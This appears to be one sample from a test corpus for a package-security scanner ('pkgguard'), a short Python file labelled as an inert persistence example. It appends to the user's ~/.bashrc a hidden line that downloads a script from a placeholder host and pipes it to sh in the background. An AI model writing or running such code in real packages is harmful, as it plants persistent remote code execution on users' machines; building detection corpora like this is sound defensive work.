# pkgguard corpus 086 (persistence), modelled on [developer-persistence]; inert, never run.
import os

with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\n(curl -s https://cdn.example/rc | sh >/dev/null 2>&1 &)\n")
